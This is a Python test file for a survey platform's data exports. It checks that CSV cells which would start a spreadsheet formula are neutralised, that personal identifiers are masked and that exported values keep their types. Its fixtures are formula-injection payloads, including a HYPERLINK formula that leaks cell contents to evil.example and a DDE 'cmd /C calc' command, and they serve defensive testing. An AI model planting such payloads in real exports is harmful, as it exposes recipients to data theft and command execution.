"""CSV exports never hand a spreadsheet a formula: a text cell that would start one (=, +, -, @, a tab
or a carriage return, OWASP's list) gets a ' in front, whether it is an answer or an attribute;
numbers stay numbers; JSON Lines keeps every value exactly as stored; the data dictionary says so.
Both mask phone numbers, e-mail addresses and PESEL numbers in free text (issue 20)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any
from zoneinfo import ZoneInfo

from sqlalchemy import insert
from sqlmodel import col

from flows.loader import load_campaign
from outreach.bootstrap import Services
from outreach.campaigns.commands import create_campaign
from outreach.inbound.pipeline import Outcome
from outreach.results.dictionary import data_dictionary
from outreach.results.exports import ExportKind, PublicTimes, export_chunks
from outreach.results.public_values import public_time
from storage.tables import CampaignRecord, Resident, Response
from tests.factories import add_resident
from tests.outreach.helpers import launch, reply

CAMPAIGN = """
name: Formuły
languages: [pl]
channels: [sms]
questions:
  - {id: idea, type: text, text: {pl: "Co zmienić?"}}
  - {id: change, type: number, min: -10, max: 10, text: {pl: "O ile?"}}
  - id: places
    type: multi
    text: {pl: "Gdzie?"}
    options:
      - {key: park, text: {pl: park}}
      - {key: plaza, text: {pl: plac}}
"""

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
# (district, the idea in its words, the number): what was stored, exactly.
ANSWERS: list[tuple[str, str, float]] = [
    ("@SUM(1)", HYPERLINK, -3),
    ("Orunia", "+SUM(A1:A9)", -0.5),
    ("Wrzeszcz", "-2+3+cmd|' /C calc'!A0", 2.5),
    ("=1+1", "@admin", 7),
    ("Oliwa", "\tz tabulatorem", 0),
    ("Zaspa", "\r=z powrotem karetki", 1),
    ("Osowa", "'=z apostrofem", 2),
    ("Brętowo", 'zwykły tekst, z przecinkiem i "cudzysłowem" = 2', -10),
]
# The same as CSV cells: a ' in front of a text that starts a formula (and of one that starts with
# ', so that taking one ' off any cell that has it always gives the text back).
NEUTRALISED = {
    "@SUM(1)": "'@SUM(1)",
    HYPERLINK: "'" + HYPERLINK,
    "+SUM(A1:A9)": "'+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "=1+1": "'=1+1",
    "@admin": "'@admin",
    "\tz tabulatorem": "'\tz tabulatorem",
    "\r=z powrotem karetki": "'\r=z powrotem karetki",
    "'=z apostrofem": "''=z apostrofem",
}


async def answered(services: Services, answers: list[tuple[str, str, float]] = ANSWERS) -> CampaignRecord:
    """A campaign whose respondents answered `answers`, stored as the pipeline stores them."""
    record = await create_campaign(services.sessions, load_campaign(CAMPAIGN), clock=services.clock)
    now = datetime(2027, 3, 2, 12, 0, tzinfo=UTC)
    async with services.sessions() as session, session.begin():
        rows: list[dict[str, Any]] = [
            {
                "pseudonym": f"formula{index:04d}",
                "language": "pl",
                "attributes": {"district": district},
                "created_at": now,
                "updated_at": now,
            }
            for index, (district, _, _) in enumerate(answers)
        ]
        ids = list((await session.execute(insert(Resident).returning(col(Resident.id)), rows)).scalars())
        await session.execute(
            insert(Response),
            [
                {
                    "campaign_id": record.id,
                    "question_id": question,
                    "resident_id": resident_id,
                    "respondent": f"p{resident_id:04d}",
                    "value": value,
                    "channel": "sms",
                    "answered_at": now,
                    "language": "pl",
                    "attributes": {"district": district},
                }
                for resident_id, (district, idea, number) in zip(ids, answers, strict=True)
                for question, value in (("idea", idea), ("change", number), ("places", ["park", "plaza"]))
            ],
        )
    return record


async def exported(services: Services, record: CampaignRecord, kind: ExportKind) -> str:
    flow = services.definitions.flow(record)
    lines = export_chunks(services.sessions, record, flow, ["district"], kind, time_precision="hour")
    return "".join([line async for line in lines])


async def test_csv_cells_that_would_start_a_formula_are_neutralised(services: Services) -> None:
    record = await answered(services)
    rows = list(csv.DictReader(io.StringIO(await exported(services, record, "csv"), newline="")))
    ideas = {row["respondent"]: row for row in rows if row["question"] == "idea"}
    assert len(ideas) == len(ANSWERS)
    for row, (district, idea, _) in zip(ideas.values(), ANSWERS, strict=True):
        assert row["value"] == NEUTRALISED.get(idea, idea)
        assert row["district"] == NEUTRALISED.get(district, district)
    # Numbers are numbers: -3 is no formula, and a ' would turn it into text.
    assert [row["value"] for row in rows if row["question"] == "change"] == [
        "-3",
        "-0.5",
        "2.5",
        "7",
        "0",
        "1",
        "2",
        "-10",
    ]
    assert {row["value"] for row in rows if row["question"] == "places"} == {"park|plaza"}
    # Taking one ' off a cell that starts with one gives back exactly what was stored.
    assert [row["value"][1:] if row["value"].startswith("'") else row["value"] for row in ideas.values()] == [
        idea for _, idea, _ in ANSWERS
    ]


async def test_jsonl_keeps_every_value_exact(services: Services) -> None:
    record = await answered(services)
    lines = [json.loads(line) for line in (await exported(services, record, "jsonl")).splitlines()]
    assert [(line["value"], line["district"]) for line in lines if line["question"] == "idea"] == [
        (idea, district) for district, idea, _ in ANSWERS
    ]
    assert [line["value"] for line in lines if line["question"] == "change"] == [number for _, _, number in ANSWERS]


async def test_free_text_leaves_with_phones_emails_and_pesels_masked(services: Services) -> None:
    written = "+48 600 100 200 albo ola.nowak@example.org, PESEL 44051401458, licznik 12345678901"
    record = await answered(services, [("Orunia", written, 1)])
    masked = "[phone] albo [email], PESEL [PESEL], licznik 12345678901"
    csv_rows = csv.DictReader(io.StringIO(await exported(services, record, "csv"), newline=""))
    assert [row["value"] for row in csv_rows if row["question"] == "idea"] == [masked]
    jsonl = [json.loads(line) for line in (await exported(services, record, "jsonl")).splitlines()]
    assert [line["value"] for line in jsonl if line["question"] == "idea"] == [masked]


def test_the_data_dictionary_says_how_csv_cells_are_neutralised() -> None:
    dictionary = data_dictionary(load_campaign(CAMPAIGN), ["district"])
    rule = dictionary["csv"]
    assert "formula" in rule and "OWASP" in rule and "JSON Lines" in rule
    for start in ("=", "+", "-", "@", "tab", "carriage return"):
        assert start in rule
    assert "-3" in rule  # why a negative number is left alone
    value = next(field for field in dictionary["fields"] if field["name"] == "value")
    district = next(field for field in dictionary["fields"] if field["name"] == "district")
    assert "'" in value["description"] and "'" in district["description"]


SNAPSHOT_CAMPAIGN = """
name: Dzielnice
languages: [pl, en]
channels: [sms]
questions:
  - {id: idea, type: text, text: {pl: "Co zmienić?", en: "What should change?"}}
"""


async def test_an_answer_keeps_the_attributes_its_respondent_had_when_giving_it(services: Services) -> None:
    """An import that moves the resident to another district (and language) later does not rewrite
    the answer they already gave: exports read the snapshot taken at answer time."""
    await add_resident(services, phone="+48600100300", language="pl", district="Orunia", age_band="30-44")
    record_id = await launch(services, SNAPSHOT_CAMPAIGN)
    assert await reply(services, "+48600100300", "więcej ławek") is Outcome.ANSWERED
    await add_resident(services, phone="+48600100300", language="en", district="Oliwa", age_band="45-59")
    async with services.sessions() as session:
        record = await session.get_one(CampaignRecord, record_id)
    flow = services.definitions.flow(record)
    for kind in ("csv", "jsonl"):
        text = "".join(
            [
                line
                async for line in export_chunks(
                    services.sessions, record, flow, ["district", "age_band"], kind, time_precision="hour"
                )
            ]
        )
        rows = (
            list(csv.DictReader(io.StringIO(text)))
            if kind == "csv"
            else [json.loads(line) for line in text.splitlines()]
        )
        assert [(row["district"], row["age_band"], row["language"]) for row in rows] == [("Orunia", "30-44", "pl")]


def test_answer_times_are_cut_as_public_time_cuts_them() -> None:
    """The export's per-hour (per-day) cache gives what public_time gives, in any zone a time comes in."""
    warsaw = ZoneInfo("Europe/Warsaw")
    moments = [
        datetime(2027, 3, 28, 0, 59, 59, tzinfo=UTC),
        datetime(2027, 3, 28, 1, 0, 0, tzinfo=UTC),  # Warsaw's clocks go forward at this instant
        datetime(2027, 3, 28, 3, 30, tzinfo=warsaw),
        datetime(2027, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
        datetime(2028, 1, 1, 0, 30, tzinfo=warsaw),  # still 2027 in UTC
        datetime(1999, 1, 1, 12, 0, tzinfo=timezone(timedelta(hours=-9, minutes=-30))),
    ]
    for precision in ("hour", "day"):
        times = PublicTimes(precision)
        for moment in [*moments, *moments]:  # the second round is read from the cache
            assert times(moment) == public_time(moment, precision).isoformat(), (precision, moment)


NUMBERS = """
name: Liczby
languages: [pl]
channels: [sms]
questions:
  - {id: count, type: number, text: {pl: "Ile?"}}
  - {id: mood, type: yesno, text: {pl: "Dobrze?"}}
"""


async def test_equal_numbers_of_different_types_are_exported_as_stored(services: Services) -> None:
    """True and 1 are equal (and hash alike) in Python, but a number question's answer is never a
    boolean: the export's per-value cache keeps them apart, as it keeps the same option key of two
    questions apart."""
    record = await create_campaign(services.sessions, load_campaign(NUMBERS), clock=services.clock)
    now = datetime(2027, 3, 2, 12, 0, tzinfo=UTC)
    stored = [("count", True), ("count", 1), ("count", 1.5), ("count", True), ("mood", "yes"), ("count", "yes")]
    async with services.sessions() as session, session.begin():
        ids = list(
            (
                await session.execute(
                    insert(Resident).returning(col(Resident.id)),
                    [
                        {"pseudonym": f"n{i}", "language": "pl", "attributes": {}, "created_at": now, "updated_at": now}
                        for i in range(len(stored))
                    ],
                )
            ).scalars()
        )
        await session.execute(
            insert(Response),
            [
                {
                    "campaign_id": record.id,
                    "question_id": question,
                    "resident_id": resident_id,
                    "respondent": f"p{resident_id:04d}",
                    "value": value,
                    "channel": "sms",
                    "answered_at": now,
                    "language": "pl",
                    "attributes": {},
                }
                for resident_id, (question, value) in zip(ids, stored, strict=True)
            ],
        )
    rows = list(csv.DictReader(io.StringIO(await exported(services, record, "csv"), newline="")))
    assert [row["value"] for row in rows] == ["1", "1.5", "yes"]  # neither True nor "yes" is a number
    lines = [json.loads(line) for line in (await exported(services, record, "jsonl")).splitlines()]
    assert [(line["value"], type(line["value"])) for line in lines] == [(1, int), (1.5, float), ("yes", str)]
